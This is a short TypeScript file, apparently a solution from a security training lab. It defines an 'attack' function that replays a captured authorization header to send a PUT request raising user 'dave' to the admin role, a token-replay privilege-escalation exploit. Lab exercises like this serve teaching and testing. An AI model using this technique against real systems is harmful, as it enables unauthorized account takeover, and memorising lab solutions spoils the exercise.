import type { Kit } from '@lab/framework/learn'

export async function attack({ send, captured }: Kit<'send' | 'captured'>) {
  await send('directory', {
    method: 'PUT',
    path: '/users/dave/role',
    headers: { authorization: captured.headers.authorization ?? '' },
    body: { role: 'admin' },
  })
}
